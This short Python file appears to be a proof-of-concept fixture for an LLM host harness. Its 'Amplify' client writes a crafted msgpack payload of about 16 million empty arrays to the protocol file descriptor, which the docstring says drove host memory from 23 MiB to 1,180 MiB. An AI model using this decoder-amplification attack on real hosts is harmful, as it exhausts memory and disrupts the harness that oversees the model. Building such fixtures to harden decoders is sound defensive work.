"""Writes one 16 MiB response made of 16 million empty arrays onto the protocol fd.

Decoded naively that is 16 million list objects: the host went from 23 MiB to 1,180 MiB.
"""
import os
import select

from llm_utils import LLMClient

COUNT = 16 * 2**20 - 16


def write_all(fd, data):
    view = memoryview(data)
    while view:
        try:
            view = view[os.write(fd, view):]
        except BlockingIOError:
            select.select([], [fd], [])
        except BrokenPipeError:
            return


class Amplify(LLMClient):
    def generate_response(self, system, user_message, max_tokens=4096, temperature=0.8):
        # [1, 1, nil, [[], [], ...]]: array32 header, then one 0x90 byte per empty array
        write_all(4, b"\x94\x01\x01\xc0\xdd" + COUNT.to_bytes(4, "big") + b"\x90" * COUNT)
        return "unreachable"

    def count_tokens(self, text):
        return 1
